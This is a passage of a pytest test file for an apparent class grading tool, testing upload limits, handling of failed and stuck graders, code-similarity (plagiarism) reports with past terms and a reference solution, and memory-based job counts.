        f.truncate(10 << 30)
    started = time.monotonic()
    with pytest.raises(upload.UploadError, match="vanilla.model.params in the upload is 10240 MiB"):
        upload.copy_deliverables(sparse, names, tmp_path / "sparsed")
    assert time.monotonic() - started < 1

    monkeypatch.setattr(upload, "MAX_ENTRIES", 50)
    many = tmp_path / "many"
    many.mkdir()
    with zipfile.ZipFile(tmp_path / "many.zip", "w") as zf:
        for k in range(60):
            zf.writestr(f"notes/{k}.txt", b"")
            (many / f"{k}.txt").write_bytes(b"")
    for path in (tmp_path / "many.zip", many):
        with pytest.raises(upload.UploadError, match="more than 50"):
            upload.Upload(path)


@pytest.mark.grader
def test_a_failure_of_grade_classs_own_costs_one_row_and_a_stuck_grader_is_stopped(tmp_path, data, monkeypatch):
    """A bug of grade_class's while grading one submission (here: unpacking it raises) is that row's problem, in
    one sentence, and the others are graded (it ended the whole run).  A grader past the outer time limit is
    interrupted, then killed with its process group if it does not end (here: it ignores SIGINT)."""
    import signal
    import time

    subs = tmp_path / "submissions"
    for name in ("ann", "bob"):
        (subs / name).mkdir(parents=True)
        (subs / name / "vanilla.pretrain.dev.predictions").write_text("Paris\n")
    given = grade_class.unpack

    def buggy(path, dest):
        if path.name == "ann":
            raise RuntimeError("a bug of grade_class's")
        return given(path, dest)

    monkeypatch.setattr(grade_class, "unpack", buggy)
    out = tmp_path / "grades.csv"
    assert grade_class.main([str(subs), "--out", str(out), "--data-dir", str(data), "--tests", "1e-4-basic"]) == 0
    rows = read_csv(out)
    assert "grade_class failed on this submission" in rows["ann"]["problems"] and rows["ann"]["graded"] == "no"
    assert "no Python files" in rows["bob"]["problems"], rows["bob"]

    monkeypatch.setattr(grade_class, "STOP_GRACE", 1)
    # a grader's header names its worker user id: once it is killed, that id is reclaimed (held, cleaned, let go)
    stuck = subprocess.Popen([sys.executable, "-c", "import signal, sys, time; signal.signal(signal.SIGINT, "
                              "signal.SIG_IGN); print('student code runs as uid 59999, ...', flush=True); "
                              "print('ready', file=sys.stderr, flush=True); time.sleep(60)"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    assert stuck.stderr.readline() == b"ready\n"
    reclaimed = []
    monkeypatch.setattr(grade_class.graderUtil, "reclaim", lambda uid: reclaimed.append(uid) or [])
    started = time.monotonic()
    grade_class.stop(stuck)
    assert stuck.returncode == -signal.SIGKILL and time.monotonic() - started < 10
    assert reclaimed == [59999]


# -- issue 52: the code comparison, the report page, and --jobs within the memory ------------------------------


def class_folder(root, data, names=None):
    """A class of the reference, the other correct readings and the planted copies (tests/tools/
    test_code_similarity.py), two empty starters and a broken zip: folders of the seven files each, with
    predictions of their own (no pair of them is flagged for its predictions) and stand-in params files.
    names: only these members (a class that a real grading of each takes seconds to grade)."""
    import test_code_similarity as similar

    subs = root / "submissions"
    subs.mkdir()
    members = {**similar.the_class(), "empty-1": similar.emptied(), "empty-2": similar.emptied()}
    members = {k: v for k, v in members.items() if names is None or k in names}
    for seed, (name, code) in enumerate(sorted(members.items()), 10):
        (subs / name).mkdir()
        files = {k: v for k, v in deliverables(data, seed).items() if not k.endswith(".py")}
        files.update({k: v.encode() for k, v in code.items()})
        for fname, content in files.items():
            (subs / name / fname).write_bytes(content)
    (subs / "broken.zip").write_bytes(b"PK\x03\x04 not a zip")
    return subs, members


def flagged_code_pairs(out):
    with open(out.with_name("grades.similar.csv"), newline="", encoding="utf-8") as f:
        return {(r["submission_a"], r["submission_b"]): r for r in csv.DictReader(f)}


def check_class_report(out, members):
    """grades.similar.csv and report.html of class_folder's class: every planted copy flagged with the reference,
    no distinct pair, never the two empty starters; the page shows each flagged pair with its link, the
    histograms, the submission that could not be graded and why; every output is its owner's alone."""
    import stat

    import test_code_similarity as similar

    flagged = flagged_code_pairs(out)
    names = sorted(members)
    every = [(a, b) for i, a in enumerate(names) for b in names[i + 1:]]
    assert {p for p in every if similar.same_code(*p)} <= set(flagged), sorted(flagged)
    assert not {p for p in every if similar.distinct(*p)} & set(flagged)
    assert not any("empty-1" in p or "empty-2" in p for p in flagged)
    row = flagged[("copy-moved", "reference")]
    assert float(row["score"]) >= 0.9 and float(row["score:attention.py"]) > 0.5 and row["score:trainer.py"] == ""
    assert row["most_similar_file"] in ("dataset.py", "model.py", "attention.py")
    page = out.with_name("report.html").read_text(encoding="utf-8")
    for (a, b), r in flagged.items():
        assert f"<td>{a}</td><td>{b}</td>" in page and f'href="{r["side_by_side"]}"' in page
        side = out.parent / r["side_by_side"]
        assert f"<h2>{a}</h2>" in side.read_text(encoding="utf-8")
        assert stat.S_IMODE(side.stat().st_mode) == 0o600
    assert "<td>broken</td><td>cannot read the submission" in page and "data:image/png;base64," in page
    # every pair compared, ranked with both shares, flagged or not: the near misses below the cut are there too
    ranked = page.split("<h3>Every pair compared")[1].split("</table>")[0]
    rows = re.findall(r"<tr><td>([^<]*)</td><td>([^<]*)</td><td>(\d+)%</td><td>\d+%</td><td>\d+%</td><td>(yes)?</td>",
                      ranked)
    scores = [int(r[2]) for r in rows]
    assert scores == sorted(scores, reverse=True) and len(rows) > len(flagged)
    assert {(a, b) for a, b, _, mark in rows if mark} == set(flagged)
    import code_similarity

    cut = round(100 * code_similarity.THRESHOLD)
    assert any(int(score) < cut for _, _, score, _ in rows)  # pairs below the cut are listed
    assert f"the cut at {cut}% marked" in page
    # every listed pair links to its side-by-side page, the near misses below the cut too (MOSS links every pair)
    for row in ranked.split("<tr>")[2:]:
        (link,) = re.findall(r'<a href="([^"]+)">side by side</a>', row)
        assert (out.parent / link).is_file(), row
    for path in (out, out.with_name("grades.similar.csv"), out.with_name("grades.pairs.csv"),
                 out.with_name("report.html"), out.with_suffix(".png")):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in ("grades.similar", "grades.cache"):
        assert stat.S_IMODE(out.with_name(folder).stat().st_mode) == 0o700, folder
    records = list(out.with_name("grades.cache").glob("*.json"))
    assert records and all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in records), records


def fake_graded(name, path, cfg, cpus):
    """grade_one's record of a submission graded at full marks in 1e-0-basic, without a grader."""
    if path.suffix == ".zip":
        return {"version": grade_class.CACHE_VERSION, "name": name, "fingerprint": grade_class.fingerprint(path),
                "graded": False, "results": None, "problems": ["cannot read the submission: broken; not graded"],
                "files": [], "seconds": 0.0}
    test = {"number": "1e-0-basic", "score": POINTS["1e-0-basic"], "max_score": POINTS["1e-0-basic"],
            "extra_data": {"status": "passed"}}
    return {"version": grade_class.CACHE_VERSION, "name": name, "fingerprint": grade_class.fingerprint(path),
            "graded": True, "results": {"score": test["score"], "tests": [test]}, "problems": [], "files": [],
            "seconds": 0.0}


def test_a_class_report_flags_every_planted_copy_and_no_distinct_pair(tmp_path, data, monkeypatch):
    """grade_class's outputs of a class (the grading itself faked: the comparison reads the code, not the
    results): grades.similar.csv, the side-by-side pages and report.html, private whatever the umask."""
    import os

    subs, members = class_folder(tmp_path, data)
    monkeypatch.setattr(grade_class, "grade_one", fake_graded)
    out = tmp_path / "grades.csv"
    old = os.umask(0o022)
    try:
        assert grade_class.main([str(subs), "--out", str(out), "--data-dir", str(data), "--tests", "1e-0-basic"]) == 0
    finally:
        os.umask(old)
    check_class_report(out, members)


# what another starter gives its students beside this one's: a helper every past submission holds
THEIR_STARTER = """

def their_helper(lines, width):
    \"\"\"Every line cut to width characters, padded with spaces, numbered from one.\"\"\"
    out = []
    for number, line in enumerate(lines, 1):
        text = line[:width]
        text = text + " " * (width - len(text))
        out.append(f"{number:4d} {text}")
    joined = "\\n".join(out)
    return joined if joined.endswith("\\n") else joined + "\\n"
"""


def test_each_submissions_code_is_compared_with_the_reference_and_past_terms_when_asked(tmp_path, data, monkeypatch,
                                                                                       capsys):
    """--compare-reference and --compare-past DIR: the class (the other readings and the planted copies, without the
    reference) is compared with the reference solution and a past term's submissions as well, never those with each
    other.  The planted copies are flagged with "(reference solution)", a reading handed in again is flagged with
    the past term's copy of it, and the reference's code and the past copy of it are not a pair.  Past submissions
    made from another starter are like any submission that holds that starter's code, until --starter gives it
    (its code then never counts).  A past folder that is not there is one sentence, before any grading."""
    import shutil

    import test_code_similarity as similar

    subs, members = class_folder(tmp_path, data)
    shutil.rmtree(subs / "reference")
    past = tmp_path / "2025"
    for name, code in (("old-copy", similar.reference()), ("old-reading", similar.readings()["dataset-ids"])):
        (past / name).mkdir(parents=True)
        for fname, text in code.items():
            (past / name / fname).write_text(text, encoding="utf-8")
    monkeypatch.setattr(grade_class, "grade_one", fake_graded)
    out = tmp_path / "grades.csv"
    argv = [str(subs), "--out", str(out), "--data-dir", str(data), "--tests", "1e-0-basic"]
    assert grade_class.main(argv + ["--compare-reference", "--compare-past", str(past)]) == 0
    flagged = flagged_code_pairs(out)
    for copy in similar.planted_copies():
        assert (copy, grade_class.REFERENCE) in flagged and (copy, "(past) 2025/old-copy") in flagged, copy
    assert ("dataset-ids", "(past) 2025/old-reading") in flagged
    assert not any(a.startswith("(") for a, _ in flagged)  # the reference and the past term never with each other
    page = out.with_name("report.html").read_text(encoding="utf-8")
    assert "code also compared with: the reference solution; 2 past submissions in" in page
    # a past term made from another starter: that starter's own code makes every past submission like every
    # submission of this class, until it is given as a starter too
    other = tmp_path / "their-starter"
    other.mkdir()
    for fname, text in similar.emptied().items():  # this starter, and their helper in utils.py
        (other / fname).write_text(text + (THEIR_STARTER if fname == "utils.py" else ""), encoding="utf-8")
    theirs = (other / "utils.py").read_text(encoding="utf-8")
    for name in ("reading-a", "reading-b"):
        shutil.copytree(other, tmp_path / "term" / name)
    (subs / "empty-1" / "utils.py").write_text(theirs, encoding="utf-8")
    (tmp_path / "other").mkdir()
    out2 = tmp_path / "other" / "grades.csv"
    argv2 = [str(subs), "--out", str(out2), "--data-dir", str(data), "--tests", "1e-0-basic"]
    assert grade_class.main(argv2 + ["--compare-past", str(tmp_path / "term")]) == 0
    assert ("empty-1", "(past) term/reading-a") in flagged_code_pairs(out2)
    assert grade_class.main(argv2 + ["--compare-past", str(tmp_path / "term"), "--starter", str(other)]) == 0
    assert not [p for p in flagged_code_pairs(out2) if p[0] == "empty-1"]
    capsys.readouterr()

    def never(*args):
        raise AssertionError("graded before the comparison's folders were checked")

    monkeypatch.setattr(grade_class, "grade_one", never)
    argv[2] = str(tmp_path / "again.csv")
    assert grade_class.main(argv + ["--compare-past", str(tmp_path / "nowhere")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: --compare-past") and err.count("\n") == 1, err
    # two past terms' folders of one name would label their submissions alike: refused, before any grading
    again = tmp_path / "copied" / "2025"
    again.mkdir(parents=True)
    assert grade_class.main(argv + ["--compare-past", str(past), "--compare-past", str(again)]) == 2
    err = capsys.readouterr().err
    assert "have the same name" in err and err.count("\n") == 1, err


def screenshot(page, png, tmp_path):
    """Render page in Debian's headless Chromium into png (1200 x 2400)."""
    subprocess.run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                    "--disable-component-update", "--disable-sync", "--no-first-run",
                    f"--user-data-dir={tmp_path / 'chromium-profile'}", "--window-size=1200,2400",
                    f"--screenshot={png}", page.as_uri()], capture_output=True, timeout=120, check=True)


@pytest.mark.grader
def test_a_class_graded_by_grade_class_reports_the_copies_on_a_page_that_renders(tmp_path, data):
    """A class of the reference, a planted copy of it, another reading and two empty starters, graded by
    grade_class for real (one quick test each: 1c-3-basic, of the model the student builds; the code's comparison
    reads every file whatever the tests): the copy is flagged, no distinct pair, and report.html renders in a real
    browser (headless Chromium, where it is installed: CI has none).  The whole class of readings and copies is
    checked alike with the grading faked (test_a_class_report_flags_every_planted_copy_and_no_distinct_pair)."""
    import os
    import shutil

    subs, members = class_folder(tmp_path, data, ["reference", "copy-moved", "perceiver-own-attention", "empty-1",
                                                    "empty-2"])
    assert len(members) == 5
    out = tmp_path / "grades.csv"
    proc = subprocess.run([sys.executable, str(ROOT / "tools" / "grade_class.py"), str(subs), "--out", str(out),
                           "--data-dir", str(data), "--tests", "1c-3-basic"],
                          capture_output=True, text=True, timeout=900)
    assert proc.returncode == 0, proc.stderr[-3000:]
    rows = read_csv(out)
    assert rows["reference"]["1c-3-basic"] == f"{POINTS['1c-3-basic']:g}" and rows["empty-1"]["1c-3-basic"] == "0"
    check_class_report(out, members)
    assert "copy-moved ~ reference" in proc.stdout
    if not shutil.which("chromium"):
        pytest.skip("chromium is not installed (apt-get install chromium): the page was not rendered")
    png = tmp_path / "report.png"
    screenshot(out.with_name("report.html"), png, tmp_path)
    from PIL import Image  # matplotlib's own dependency

    with Image.open(png) as image:
        assert image.size == (1200, 2400)
        colours = image.convert("RGB").getcolors(maxcolors=1 << 20) or []
    # text, table borders and the histograms' bars: a blank or unstyled error page has a handful of colours
    assert len(colours) > 200, len(colours)
    if os.environ.get("KEEP_REPORT_SCREENSHOT"):  # for a person to look at: KEEP_REPORT_SCREENSHOT=PATH
        shutil.copy(png, os.environ["KEEP_REPORT_SCREENSHOT"])


def test_jobs_by_default_are_as_many_as_the_memory_holds(tmp_path, monkeypatch, capsys):
    """Without --jobs, one grading per core, and no more than the memory holds: each grading's workers may take
    4 GiB plus 256 MiB per core (grading/worker.py).  64 cores and 16 GiB grade one at a time (64 at a time asked
    for 272 GiB); 8 cores and 24 GiB, 5.  The help and docs/instructor.md say so."""
    subs = tmp_path / "submissions"
    for name in ("ann", "bob", "cat"):
        (subs / name).mkdir(parents=True)
        (subs / name / "model.py").write_text("x = 1\n", encoding="utf-8")
    monkeypatch.setattr(grade_class, "grade_one", fake_graded)
    monkeypatch.setattr(grade_class, "usable_cpus", lambda: list(range(64)))
    monkeypatch.setattr(grade_class, "physical_memory", lambda: 16 << 30)
    argv = [str(subs), "--out", str(tmp_path / "grades.csv"), "--tests", "1e-0-basic", "--regrade"]
    assert grade_class.main(argv) == 0
    assert "3 to grade, 1 at a time" in capsys.readouterr().out
    monkeypatch.setattr(grade_class, "physical_memory", lambda: 128 << 30)
    assert grade_class.main(argv) == 0
    assert "3 to grade, 3 at a time" in capsys.readouterr().out
    assert grade_class.default_jobs(8, 24 << 30) == 5 and grade_class.default_jobs(2, 24 << 30) == 2
    assert grade_class.default_jobs(4, None) == 4 and grade_class.default_jobs(4, 1 << 30) == 1
    jobs = next(a for a in grade_class.build_parser()._actions if a.dest == "jobs")
    assert "memory" in jobs.help and "4 GiB" in jobs.help and "256 MiB per core" in jobs.help
    doc = (ROOT / "docs" / "instructor.md").read_text(encoding="utf-8")
    assert "workers may take 4 GiB plus 256 MiB per core" in " ".join(doc.split())
    assert grade_class.default_jobs(64, 16 << 30) == 1 and "on 64 cores\nwith 16 GiB it grades one at a time" in doc


def test_a_comparison_that_cannot_run_stops_before_any_grading(tmp_path, monkeypatch, capsys):
    """Without copydetect, or with a reference whose student regions do not pair up (no starter can be made from
    it), grade_class says so in one sentence before it grades anything (not after hours of grading)."""
    subs = tmp_path / "submissions"
    (subs / "ann").mkdir(parents=True)
    (subs / "ann" / "model.py").write_text("x = 1\n", encoding="utf-8")
    graded = []
    monkeypatch.setattr(grade_class, "grade_one", lambda *a: graded.append(a))
    argv = [str(subs), "--out", str(tmp_path / "grades.csv"), "--tests", "1e-0-basic"]
    solution = tmp_path / "solution"
    solution.mkdir()
    for path in (SRC / "submission").glob("*.py"):
        (solution / path.name).write_text(path.read_text(encoding="utf-8"), encoding="utf-8")
    with open(solution / "model.py", "a", encoding="utf-8") as f:
        f.write("\n### START CODE HERE ###\n")
    assert grade_class.main(argv + ["--solution-dir", str(solution)]) == 2
    err = capsys.readouterr().err
    assert "model.py" in err and "START marker is never closed" in err and err.count("\n") == 1, err
    monkeypatch.setitem(sys.modules, "code_similarity", None)  # as if copydetect were not installed
    assert grade_class.main(argv) == 2
    assert "pip install -r tools/requirements.txt" in capsys.readouterr().err
    assert graded == [] and not (tmp_path / "grades.csv").exists()


def test_a_params_comparison_that_compared_nothing_is_never_shown_as_clean(tmp_path, capsys):
    """A comparison that read no params file (every upload unreadable, or none holds one) says so, on the page and
    on the terminal, where it said "0 files compared: 0 pair(s)" and "None." as if the class were clean; each file
    not compared is a warning naming its submission."""
    import params_similarity as ps

    nothing = ps.Comparison(0, [], [], [], [("ann", "", "the upload ann.zip cannot be read: not compared"),
                                            ("bob", "vanilla.model.params", "vanilla.model.params could not be "
                                                                            "loaded")], "")
    section = class_report.params_section(nothing)
    assert "0 files compared" not in section and "None." not in section
    assert "No params file was compared" in section and "<td>ann</td>" in section
    class_report.write_params_pairs(tmp_path / "grades.csv", nothing)
    said = capsys.readouterr().out
    assert "0 pair(s)" not in said and "warning: no params file was compared" in said, said
    assert "warning: ann: not compared: the upload ann.zip cannot be read" in said, said
    assert "warning: bob: vanilla.model.params not compared: vanilla.model.params could not be loaded" in said, said


def test_a_prediction_or_code_file_too_large_to_compare_is_named_not_skipped(tmp_path, data, monkeypatch, capsys):
    """A prediction file or a .py file past what the comparisons read (a MiB: a place name a line, a few KB of code)
    was left out of the prediction pairs and the code comparison without a word: it is a warning naming the
    submission and the file, and the roster lists it as not compared."""
    subs = tmp_path / "submissions"
    for name in ("ann", "bob"):
        (subs / name).mkdir(parents=True)
        for fname, content in deliverables(data, 3).items():
            (subs / name / fname).write_bytes(content)
    (subs / "bob" / "vanilla.pretrain.dev.predictions").write_bytes(b"Paris\n" * 200_000)  # 1.2 MB
    (subs / "bob" / "utils.py").write_bytes(b"# padding\n" * 120_000)
    monkeypatch.setattr(grade_class, "grade_one", fake_graded)
    out = tmp_path / "grades.csv"
    assert grade_class.main([str(subs), "--out", str(out), "--data-dir", str(data), "--tests", "1e-0-basic"]) == 0
    said = capsys.readouterr().out
    assert "warning: bob: vanilla.pretrain.dev.predictions not compared: it is larger than" in said, said
    assert "warning: bob: utils.py not compared: it is larger than" in said, said
    roster = out.with_name("report.html").read_text(encoding="utf-8").split("<h2>Roster</h2>")[1].split("</table>")[0]
    assert "not compared (utils.py, vanilla.pretrain.dev.predictions)" in roster.split(">bob</a>")[1], roster
